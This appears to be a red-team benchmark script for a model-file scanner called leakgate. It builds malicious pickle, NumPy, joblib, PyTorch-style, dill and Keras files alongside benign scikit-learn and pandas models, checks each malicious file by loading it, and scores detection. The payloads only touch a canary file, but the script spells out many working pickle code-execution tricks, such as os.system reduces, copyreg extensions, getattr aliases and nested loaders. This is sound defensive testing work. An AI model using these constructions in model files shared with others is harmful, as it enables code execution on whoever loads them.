#!/usr/bin/env python3
"""A red-team corpus for leakgate's model file detector, written after the
detector and against it: variants not in model_corpus.py, each malicious file
VERIFIED by loading it with the real loader (CPython's unpickler, numpy.load,
joblib.load, dill; PyTorch archives through torch.load's own steps: the zip's
data.pkl with a persistent_load, and a stand-in `torch` package whose
_rebuild_* helpers call what they are given, as torch's do) in a subprocess,
whose harmless payload touches a canary file in the corpus directory. Benign
files are real models from scikit-learn (many estimator kinds), pandas, NumPy
and plain Python data at every protocol.

    python3 benches/model_redteam.py [--leakgate target/release/leakgate] [--out DIR]

Needs numpy, scikit-learn, joblib and h5py; pandas, dill and cloudpickle are
used when installed (pip install pandas dill cloudpickle). Keras files cannot be
verified without TensorFlow and are reported as unverified.
"""
import argparse, os, sys
HERE = os.path.dirname(os.path.abspath(__file__))


def build(OUT):
    import os, sys, io, pickle, struct, zipfile, gzip, json, subprocess, collections, functools, operator, copyreg, shutil, tarfile
    CAN = os.path.join(OUT, "canary")
    shutil.rmtree(OUT, ignore_errors=True); os.makedirs(CAN)
    MAL = []; BEN = []
    def mal(tech, name, data, loader="pickle"):
        d = os.path.join(OUT, "mal", tech); os.makedirs(d, exist_ok=True)
        p = os.path.join(d, name); open(p, "wb").write(data); MAL.append((tech, p, loader, name))
    def ben(kind, name, data):
        d = os.path.join(OUT, "ben", kind); os.makedirs(d, exist_ok=True)
        p = os.path.join(d, name); open(p, "wb").write(data); BEN.append((kind, p))
    def cmd(name): return f"touch {CAN}/{name}"
    def s(t): b = t.encode(); return b"\x8c" + bytes([len(b)]) + b
    def sg(m, n): return s(m) + s(n) + b"\x93"
    class R:
        def __init__(s, f, a): s.f, s.a = f, a
        def __reduce__(s): return (s.f, s.a)
    class RX:
        def __init__(s, f, a): s.f, s.a = f, a
        def __reduce_ex__(s, p): return (s.f, s.a)
    for p in range(6):
        n = f"reduce_ex_p{p}.pkl"; mal("reduce-ex", n, pickle.dumps(RX(os.system, (cmd(n),)), protocol=p))
    # exec via builtins.exec with code touching file
    n="exec_open.pkl"; mal("builtins", n, pickle.dumps(R(exec, (f"open('{CAN}/{n}','w').close()",)), protocol=2))
    # copyreg.add_extension then EXT1/EXT2/EXT4
    for op, code, enc in [(b"\x82", 0xf1, lambda c: bytes([c])), (b"\x83", 0x1234, lambda c: struct.pack("<H", c)), (b"\x84", 0x123456, lambda c: struct.pack("<i", c))]:
        n = f"ext_{op.hex()}.pkl"
        mal("ext-registry", n, b"\x80\x02" + sg("copyreg", "add_extension") + s("posix") + s("system") + b"J" + struct.pack("<i", code) + b"\x87R0" + op + enc(code) + s(cmd(n)) + b"\x85R.")
    # getattr chains
    n = "getattr_module_alias.pkl"
    mal("getattr", n, b"\x80\x02cbuiltins\ngetattr\nctempfile\n_os\nX\x06\x00\x00\x00system\x86R" + s(cmd(n)) + b"\x85R.")
    n = "methodcaller_alias.pkl"
    mal("getattr", n, b"\x80\x04" + sg("operator", "methodcaller") + s("system") + s(cmd(n)) + b"\x86R" + sg("posixpath", "os") + b"\x85R.")
    n = "attrgetter_alias.pkl"
    mal("getattr", n, b"\x80\x04" + sg("operator", "attrgetter") + s("system") + b"\x85R" + sg("shutil", "os") + b"\x85R" + s(cmd(n)) + b"\x85R.")
    n = "text_global_module_alias.pkl"
    mal("getattr", n, b"ctempfile\n_os\n(S'system'\nS'x'\nt0" + b"cbuiltins\ngetattr\n(ctempfile\n_os\nS'system'\ntR(S'" + cmd(n).encode() + b"'\ntR.")
    # functools.partial
    n = "partial_call.pkl"
    mal("partial", n, b"\x80\x04" + sg("functools", "partial") + sg("posix", "system") + s(cmd(n)) + b"\x86R)R.")
    n = "partial_newobj_build.pkl"  # partial rebuilt from state, then called by numpy's ctor
    mal("partial", n, b"\x80\x04" + sg("numpy.random._pickle", "__randomstate_ctor") + s(cmd(n)) + sg("functools", "partial") + sg("builtins", "print") + b"\x85\x81(" + sg("uuid", "_get_command_stdout") + s("sh") + s("-c") + b"\x86}Ntb\x86R.")
    # INST / OBJ variants
    n = "inst_subprocess.pkl"; mal("inst-obj", n, b"(S'" + cmd(n).encode() + b"'\nisubprocess\ngetoutput\n.")
    n = "obj_p2.pkl"; mal("inst-obj", n, b"\x80\x02(cposix\nsystem\nX" + struct.pack("<I", len(cmd(n))) + cmd(n).encode() + b"o.")
    n = "inst_text.pkl"; mal("inst-obj", n, b"(S'" + cmd(n).encode() + b"'\nios\nsystem\n.")
    # NEWOBJ_EX on class whose __new__ runs? use copyreg.__newobj_ex__? simple: NEWOBJ_EX of a class then REDUCE result
    n = "newobj_ex_then_call.pkl"
    mal("newobj-ex", n, b"\x80\x04" + sg("functools", "partial") + sg("posix", "system") + s(cmd(n)) + b"\x86}\x92)R.")
    # nested loaders
    inner = lambda n: pickle.dumps(R(os.system, (cmd(n),)), protocol=2)
    n = "torch_load_nested.pkl"
    mal("nested-loader", n, b"\x80\x04" + sg("pickle", "loads") + b"C" + bytes([len(inner(n))]) + inner(n) + b"\x85R.")
    n = "pickle_loads_codecs.pkl"
    lat = inner(n).decode("latin1")
    mal("nested-loader", n, b"\x80\x02cpickle\nloads\nc_codecs\nencode\nX" + struct.pack("<I", len(lat.encode())) + lat.encode() + b"X\x06\x00\x00\x00latin1\x86R\x85R.")
    # torch rebuild lookalikes with attacker args
    n = "rebuild_from_type_v2.pt"
    pk = b"\x80\x02ctorch._tensor\n_rebuild_from_type_v2\n(cposix\nsystem\ncbuiltins\nobject\nX" + struct.pack("<I", len(cmd(n))) + cmd(n).encode() + b"\x85}tR."
    def tzip(pkl, prefix="archive"):
        b = io.BytesIO()
        with zipfile.ZipFile(b, "w") as z:
            z.writestr(f"{prefix}/data.pkl", pkl); z.writestr(f"{prefix}/version", "3\n"); z.writestr(f"{prefix}/data/0", bytes(64))
        return b.getvalue()
    mal("torch-lookalike", n, tzip(pk), "torch")
    n = "rebuild_from_type_v2_unknown.pt"
    pk = b"\x80\x02ctorch._tensor\n_rebuild_from_type_v2\n(cuuid\n_get_command_stdout\ncbuiltins\nobject\nX\x02\x00\x00\x00shX\x02\x00\x00\x00-cX" + struct.pack("<I", len(cmd(n))) + cmd(n).encode() + b"\x87}tR."
    mal("torch-lookalike", n, tzip(pk), "torch")
    n = "rebuild_tensor_v2_hooks.pt"  # backward hooks dict holding a reduce
    pk = b"\x80\x02ctorch._utils\n_rebuild_tensor_v2\n(X\x01\x00\x00\x000K\x00K\x01\x85K\x01\x85\x89ccollections\nOrderedDict\n)R" + b"cposix\nsystem\nX" + struct.pack("<I", len(cmd(n))) + cmd(n).encode() + b"\x85R" + b"tR."
    mal("torch-lookalike", n, tzip(pk), "torch")
    # numpy / joblib
    import numpy as np, joblib
    n = "npz_object.npz"; b = io.BytesIO(); np.savez(b, w=np.arange(3.0), o=np.array([R(os.system, (cmd(n),))], dtype=object)); mal("numpy", n, b.getvalue(), "numpy")
    n = "npy_v3_object.npy"; b = io.BytesIO(); np.lib.format.write_array(b, np.array([1, R(os.system, (cmd(n),))], dtype=object), version=(3, 0), allow_pickle=True); mal("numpy", n, b.getvalue(), "numpy")
    n = "npy_structured_object.npy"; b = io.BytesIO(); a = np.zeros(2, dtype=[("x", "<f8"), ("o", "O")]); a["o"][1] = R(os.system, (cmd(n),)); np.lib.format.write_array(b, a, allow_pickle=True); mal("numpy", n, b.getvalue(), "numpy")
    n = "np_load_nested.pkl"
    inn = io.BytesIO(); np.lib.format.write_array(inn, np.array([R(os.system, (cmd(n),))], dtype=object), allow_pickle=True); inn = inn.getvalue()
    mal("nested-loader", n, b"\x80\x04" + sg("numpy", "load") + sg("io", "BytesIO") + b"B" + struct.pack("<I", len(inn)) + inn + b"\x85R\x85R.", "none")
    for c in [0, 3, ("gzip", 3), ("xz", 3), ("bz2", 3), ("lz4", 3) ]:
        try:
            n = f"joblib_objarray_{c if c in (0,3) else c[0]}.joblib"; b = io.BytesIO()
            joblib.dump({"w": np.arange(5000.0), "o": np.array(["a", R(os.system, (cmd(n),))], dtype=object)}, b, compress=c); mal("joblib", n, b.getvalue(), "joblib")
        except Exception as e: print("skip", c, e)
    # zip quirks
    n = "zip64.pt"; b = io.BytesIO()
    with zipfile.ZipFile(b, "w") as z:
        with z.open("archive/data.pkl", "w", force_zip64=True) as f: f.write(pickle.dumps(R(os.system, (cmd(n),)), protocol=2))
        z.writestr("archive/version", "3")
    mal("zip-quirks", n, b.getvalue(), "torch")
    n = "trailing_junk.pt"; mal("zip-quirks", n, tzip(pickle.dumps(R(os.system, (cmd(n),)), protocol=2)) + b"\0" * 100, "torch")
    n = "data_prefix.pt"; mal("zip-quirks", n, b"\x00" * 4096 + tzip(pickle.dumps(R(os.system, (cmd(n),)), protocol=2)), "torch")
    n = "deflated_entry.pt"; b = io.BytesIO()
    with zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED) as z: z.writestr("archive/data.pkl", pickle.dumps(R(os.system, (cmd(n),)), protocol=2))
    mal("zip-quirks", n, b.getvalue(), "torch")
    n = "gzip.pkl.gz"; mal("compressed", n, gzip.compress(pickle.dumps(R(os.system, (cmd(n),)), protocol=4)), "joblib")
    # tar legacy torch
    n = "tar_legacy.pt"; t = io.BytesIO()
    with tarfile.open(fileobj=t, mode="w") as tf:
        for nm, data in [("sys_info", pickle.dumps({}, protocol=2)), ("pickle", pickle.dumps(R(os.system, (cmd(n),)), protocol=2))]:
            ti = tarfile.TarInfo(nm); ti.size = len(data); tf.addfile(ti, io.BytesIO(data))
    mal("torch-legacy", n, t.getvalue(), "tar")
    # pandas read_pickle
    n = "pandas_read_pickle_nested.pkl"
    mal("nested-loader", n, b"\x80\x04" + sg("pandas", "read_pickle") + sg("io", "BytesIO") + b"C" + bytes([len(inner(n))]) + inner(n) + b"\x85R\x85R.", "pickle")
    # dill / cloudpickle
    try:
        import dill, cloudpickle
        def f(p=f"{CAN}/dill_fn.pkl"):
            open(p, "w").close()
        class D:
            def __reduce__(self): return (f, ())
        n = "dill_fn.pkl"; mal("dill", n, dill.dumps(D()), "dill")
        code = f"import os; os.system('{cmd('cloudpickle_lambda.pkl')}')"
        n = "cloudpickle_lambda.pkl"; mal("cloudpickle", n, cloudpickle.dumps(R(eval, ("__import__('os').system(%r)" % cmd(n),))), "pickle")
        g = lambda: os.system(cmd("cloudpickle_fn_call.pkl"))
        class C:
            def __reduce__(self): return (g, ())
        n = "cloudpickle_fn_call.pkl"; mal("cloudpickle", n, cloudpickle.dumps(C()), "pickle")
    except ImportError as e: print("no dill", e)
    # keras configs (verification needs tensorflow: loader 'none')
    lam = {"module": "keras.layers", "class_name": "Lambda", "config": {"name": "l", "function": {"class_name": "__lambda__", "config": {"code": "4wEAAAAA"}}}}
    inner_model = {"module": "keras", "class_name": "Sequential", "config": {"name": "inner", "layers": [lam]}}
    outer = {"module": "keras", "class_name": "Functional", "config": {"name": "o", "layers": [{"module": "keras", "class_name": "Sequential", "config": inner_model["config"], "name": "inner"}]}}
    def kz(cfg):
        b = io.BytesIO()
        with zipfile.ZipFile(b, "w") as z:
            z.writestr("metadata.json", "{}"); z.writestr("config.json", json.dumps(cfg)); z.writestr("model.weights.h5", b"\x89HDF\r\n\x1a\n" + bytes(64))
        return b.getvalue()
    mal("keras", "nested_lambda.keras", kz(outer), "none")
    import h5py
    b = io.BytesIO()
    with h5py.File(b, "w") as f:
        f.attrs["model_config"] = json.dumps({"class_name": "Functional", "config": {"name": "s", "layers": [{"class_name": "Lambda", "config": {"name": "lam", "function": ["4wEAAAAAAAAA", None, None], "function_type": "lambda"}}]}})
        f.create_dataset("model_weights/d/kernel", data=np.zeros((4, 4)))
    mal("keras", "vlen_attr_lambda.h5", b.getvalue(), "none")
    # -------- benign
    import sklearn, warnings; warnings.filterwarnings("ignore")
    from sklearn import ensemble, linear_model, preprocessing, pipeline, compose, feature_extraction, decomposition, calibration, neighbors, svm, multiclass, multioutput, cluster, gaussian_process, isotonic, kernel_approximation, feature_selection, discriminant_analysis, mixture, manifold, covariance, cross_decomposition, naive_bayes, semi_supervised, impute, random_projection
    rs = np.random.RandomState(0); X = rs.rand(60, 4); y = (X[:, 0] > .5).astype(int); yr = X[:, 1] * 3
    ests = {
     "voting": ensemble.VotingClassifier([("a", linear_model.LogisticRegression()), ("b", ensemble.RandomForestClassifier(3))]).fit(X, y),
     "stacking": ensemble.StackingClassifier([("a", svm.LinearSVC()), ("b", neighbors.KNeighborsClassifier())]).fit(X, y),
     "calibrated": calibration.CalibratedClassifierCV(svm.LinearSVC(), cv=2).fit(X, y),
     "adaboost": ensemble.AdaBoostClassifier(n_estimators=5).fit(X, y),
     "bagging": ensemble.BaggingRegressor(n_estimators=3).fit(X, yr),
     "ovr": multiclass.OneVsRestClassifier(linear_model.LogisticRegression()).fit(X, y),
     "multiout": multioutput.MultiOutputRegressor(linear_model.Ridge()).fit(X, np.c_[yr, yr]),
     "gp": gaussian_process.GaussianProcessRegressor(gaussian_process.kernels.RBF() + gaussian_process.kernels.WhiteKernel()).fit(X, yr),
     "isotonic": isotonic.IsotonicRegression().fit(X[:, 0], yr),
     "nystroem": pipeline.make_pipeline(kernel_approximation.Nystroem(n_components=10), linear_model.SGDClassifier()).fit(X, y),
     "selectk": pipeline.make_pipeline(feature_selection.SelectKBest(feature_selection.f_classif, k=2), linear_model.LogisticRegression()).fit(X, y),
     "functrans": pipeline.make_pipeline(preprocessing.FunctionTransformer(np.log1p), linear_model.Ridge()).fit(X, yr),
     "ttr": compose.TransformedTargetRegressor(regressor=linear_model.Ridge(), func=np.log1p, inverse_func=np.expm1).fit(X, yr),
     "lda": discriminant_analysis.LinearDiscriminantAnalysis().fit(X, y),
     "qda": discriminant_analysis.QuadraticDiscriminantAnalysis().fit(X, y),
     "gmm": mixture.GaussianMixture(2).fit(X),
     "birch": cluster.Birch().fit(X),
     "agglo": cluster.AgglomerativeClustering().fit(X),
     "kde": neighbors.KernelDensity().fit(X),
     "balltree": neighbors.BallTree(X), "kdtree": neighbors.KDTree(X),
     "lof": neighbors.LocalOutlierFactor(novelty=True).fit(X),
     "ocsvm": svm.OneClassSVM().fit(X),
     "quantile": preprocessing.QuantileTransformer(n_quantiles=10).fit(X),
     "kbins": preprocessing.KBinsDiscretizer(3).fit(X),
     "spline": preprocessing.SplineTransformer().fit(X),
     "power": preprocessing.PowerTransformer().fit(X),
     "ordinal": preprocessing.OrdinalEncoder().fit([["a"], ["b"]]),
     "count": feature_extraction.text.CountVectorizer().fit(["the cat sat", "the dog ran"]),
     "hashing": feature_extraction.text.HashingVectorizer(n_features=16),
     "dictvec": feature_extraction.DictVectorizer().fit([{"a": 1}, {"b": 2}]),
     "nmf": decomposition.NMF(2, max_iter=20).fit(X), "lda_topics": decomposition.LatentDirichletAllocation(2, max_iter=2).fit(X),
     "ica": decomposition.FastICA(2).fit(X), "bayesridge": linear_model.BayesianRidge().fit(X, yr), "enet": linear_model.ElasticNet().fit(X, yr),
     "huber": linear_model.HuberRegressor().fit(X, yr), "quantreg": linear_model.QuantileRegressor(solver="highs").fit(X, yr),
     "pls": cross_decomposition.PLSRegression(2).fit(X, yr), "mcd": covariance.MinCovDet().fit(X),
     "labelprop": semi_supervised.LabelSpreading().fit(X, y), "knnimp": impute.KNNImputer().fit(X),
     "grp": random_projection.GaussianRandomProjection(2).fit(X), "isomap": manifold.Isomap(n_components=2).fit(X),
     "bernoulli": naive_bayes.BernoulliNB().fit(X, y), "complement": naive_bayes.ComplementNB().fit(X, y),
    }
    try:
        from sklearn.ensemble import HistGradientBoostingRegressor
        ests["hgbr"] = HistGradientBoostingRegressor(max_iter=5, categorical_features=[0]).fit(np.c_[rs.randint(0, 3, 60), X[:, 1:]], yr)
    except Exception as e: print(e)
    for i, (k, e) in enumerate(ests.items()):
        if i % 2: b = io.BytesIO(); joblib.dump(e, b, compress=i % 4); ben("sklearn", k + ".joblib", b.getvalue())
        else: ben("sklearn", k + ".pkl", pickle.dumps(e, protocol=[2, 3, 4, 5][i % 4]))
    import datetime, decimal, fractions, uuid, pathlib, array, re, enum
    py = {"od": collections.OrderedDict(w=[1.0]), "dt": datetime.datetime(2024, 1, 1, 12, tzinfo=datetime.timezone(datetime.timedelta(hours=2))),
          "dec": decimal.Decimal("-1.5E+3"), "c": complex(1, -2), "s": {1, "a"}, "fs": frozenset({(1, 2)}), "fr": fractions.Fraction(1, 3),
          "u": uuid.UUID(int=5), "p": pathlib.PurePosixPath("a/b"), "arr": array.array("d", [1.0, 2.0]), "re": re.compile(r"\d+", re.I),
          "t": datetime.time(1, 2), "ba": bytearray(b"x"), "nan": float("nan"), "big": -(2 ** 100)}
    for p in range(6): ben("python", f"py_p{p}.pkl", pickle.dumps(py, protocol=p))
    objs = {"obj_strings": np.array(["a", None, 3, {"k": [1]}], dtype=object), "dt64": np.arange("2024-01", "2024-03", dtype="datetime64[D]"),
            "masked": np.ma.masked_array([1, 2, 3], mask=[0, 1, 0]), "rec": np.rec.fromarrays([[1, 2], [3.0, 4.0]], names="a,b"),
            "dtype": np.dtype([("a", "<i4"), ("b", "O")]), "matrix": np.matrix([[1, 2]]), "scalar": np.float32(3), "complex": np.complex128(1j),
            "str_arr": np.array(["x", "y"]), "bool": np.bool_(True), "nested_obj": np.array([np.arange(2), np.arange(3)], dtype=object)}
    for k, v in objs.items():
        for p in (2, 4, 5): ben("numpy-pickle", f"{k}_p{p}.pkl", pickle.dumps(v, protocol=p))
    b = io.BytesIO(); np.save(b, objs["obj_strings"], allow_pickle=True); ben("numpy-file", "obj_plain.npy", b.getvalue())
    b = io.BytesIO(); np.savez_compressed(b, a=objs["obj_strings"], b=np.arange(4)); ben("numpy-file", "obj_plain.npz", b.getvalue())
    sd = collections.OrderedDict((f"layer{i}.weight", np.ones((3, 3), dtype=np.float32)) for i in range(4)); sd._metadata = {"": {"version": 1}}
    for p in range(2, 6): ben("state-dict", f"sd_p{p}.pkl", pickle.dumps(sd, protocol=p))
    try:
        import pandas as pd
        df = pd.DataFrame({"a": np.arange(20), "s": ["x", "y"] * 10, "c": pd.Categorical(["u", "v"] * 10), "d": pd.date_range("2024", periods=20, tz="Europe/Paris"),
                           "td": pd.to_timedelta(np.arange(20), unit="s"), "f": rs.rand(20), "n": pd.array([1, None] * 10, dtype="Int64"),
                           "b": pd.array([True, None] * 10, dtype="boolean"), "str": pd.array(["p", None] * 10, dtype="string")})
        frames = {"df": df, "multi": df.set_index(["s", "a"]), "period": pd.Series(pd.period_range("2024-01", periods=5, freq="M")),
                  "interval": pd.Series(pd.interval_range(0, 5)), "sparse": pd.Series(pd.arrays.SparseArray([0, 0, 1.0])),
                  "range": pd.Series(range(3), index=pd.RangeIndex(3)), "cat_index": df.set_index("c"), "tz_index": df.set_index("d"),
                  "ts": pd.Timestamp("2024-01-01", tz="UTC"), "offset": pd.offsets.MonthEnd(2), "dateoffset": pd.DateOffset(days=3),
                  "timedelta_index": pd.timedelta_range("1 day", periods=3), "multiindex_cols": pd.DataFrame(np.ones((2, 2)), columns=pd.MultiIndex.from_tuples([("a", 1), ("b", 2)]))}
        for k, v in frames.items():
            for p in (2, 4, 5): ben("pandas", f"{k}_p{p}.pkl", pickle.dumps(v, protocol=p))
        b = io.BytesIO(); df.to_pickle(b, compression="xz"); ben("pandas", "df.pkl.xz", b.getvalue())
        b = io.BytesIO(); joblib.dump(df, b, compress=3); ben("pandas", "df.joblib", b.getvalue())
        ct = compose.ColumnTransformer([("oh", preprocessing.OneHotEncoder(handle_unknown="ignore"), ["s"]), ("sc", preprocessing.StandardScaler(), ["f"])]).fit(df)
        ben("sklearn", "ct_df.pkl", pickle.dumps(ct, protocol=4))
    except ImportError as e: print("no pandas", e)
    json.dump({"mal": MAL, "ben": BEN, "canary": CAN}, open(os.path.join(OUT, "index.json"), "w"))
    print(len(MAL), "mal", len(BEN), "ben")


STUB = {
    "__init__.py": '"""A stand-in for the torch helpers the corpus calls, as torch 2.x behaves."""\n',
    "_tensor.py": "def _rebuild_from_type_v2(func, new_type, args, state):\n    return func(*args)\n",
    "_utils.py": "def _rebuild_tensor_v2(storage, offset, size, stride, grad, hooks, metadata=None):\n    return ('tensor', size)\n",
}


def verify(OUT):
    import json, subprocess
    stub = os.path.join(OUT, "stub", "torch")
    os.makedirs(stub, exist_ok=True)
    for name, text in STUB.items():
        open(os.path.join(stub, name), "w").write(text)
    idx = json.load(open(os.path.join(OUT, 'index.json'))); CAN = idx['canary']
    LOAD = {
     "pickle": "import pickle,sys\nf=open(sys.argv[1],'rb')\nwhile True:\n  try: pickle.load(f)\n  except EOFError: break\n",
     "torch": "import pickle,sys,zipfile,tarfile\np=sys.argv[1]\nclass U(pickle.Unpickler):\n  def persistent_load(s,pid): return None\nif zipfile.is_zipfile(p):\n  z=zipfile.ZipFile(p)\n  n=[x for x in z.namelist() if x.endswith('data.pkl')][0]\n  U(z.open(n)).load()\n",
     "tar": "import pickle,sys,tarfile\nt=tarfile.open(sys.argv[1])\npickle.loads(t.extractfile('pickle').read())\n",
     "numpy": "import numpy as np,sys\nr=np.load(sys.argv[1],allow_pickle=True)\nif hasattr(r,'files'):\n  [r[k] for k in r.files]\n",
     "joblib": "import joblib,sys\njoblib.load(sys.argv[1])\n",
     "dill": "import dill,sys\ndill.load(open(sys.argv[1],'rb'))\n",
    }
    ok = {}
    for tech, path, loader, name in idx["mal"]:
        if loader == "none": ok[path] = None; continue
        c = os.path.join(CAN, name)
        if os.path.exists(c): os.remove(c)
        env = dict(os.environ, PYTHONPATH=os.path.join(OUT, "stub"))
        r = subprocess.run([sys.executable, "-c", LOAD[loader], path], capture_output=True, timeout=60, env=env, cwd=CAN)
        ok[path] = os.path.exists(c)
        if not ok[path]: print("NOT VERIFIED", path, r.stderr.decode()[-200:].replace("\n", " | "))
    return ok

def score(OUT, ver, lg):
    import json, subprocess, time, collections
    idx = json.load(open(os.path.join(OUT, 'index.json'))); root = OUT

    t = time.perf_counter()
    out = subprocess.run([lg, "scan", root + "/mal", root + "/ben", "--format", "json", "--no-config", "--no-baseline", "-j", "1"], capture_output=True)
    el = time.perf_counter() - t
    doc = json.loads(out.stdout); fl = collections.defaultdict(list)
    for f in doc["findings"]: fl[os.path.abspath(f["path"])].append(f["rule_id"] + " " + f["secret"])
    per = collections.defaultdict(lambda: [0, 0, 0])
    for tech, p, loader, name in idx["mal"]:
        per[tech][0] += 1; per[tech][1] += p in fl; per[tech][2] += bool(ver.get(p))
        if p not in fl: print("MISSED", p, "verified" if ver.get(p) else "")
    for tech, (n, h, v) in sorted(per.items()): print(f"  {tech:<18} {h}/{n} detected, {v} verified")
    pb = collections.defaultdict(lambda: [0, 0])
    for kind, p in idx["ben"]:
        pb[kind][0] += 1; pb[kind][1] += p in fl
        if p in fl: print("FP", p, fl[p][:3])
    for k, (n, f) in sorted(pb.items()): print(f"  {k:<18} {f}/{n} flagged")
    print("skipped:", {k: len(v) for k, v in doc["summary"]["skipped"].items()})
    tm = sum(x[0] for x in per.values()); th = sum(x[1] for x in per.values()); bn = sum(x[0] for x in pb.values()); bf = sum(x[1] for x in pb.values())
    print(f"malicious {th}/{tm}, benign flagged {bf}/{bn}, {el*1000/(tm+bn):.2f} ms/file ({tm+bn} files, one process, -j1)")


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--leakgate", default="target/release/leakgate")
    ap.add_argument("--out", default=os.path.join(os.environ.get("TMPDIR", "/tmp"), "leakgate-model-redteam"))
    a = ap.parse_args()
    out = os.path.abspath(a.out)
    build(out)
    score(out, verify(out), a.leakgate)


if __name__ == "__main__":
    main()
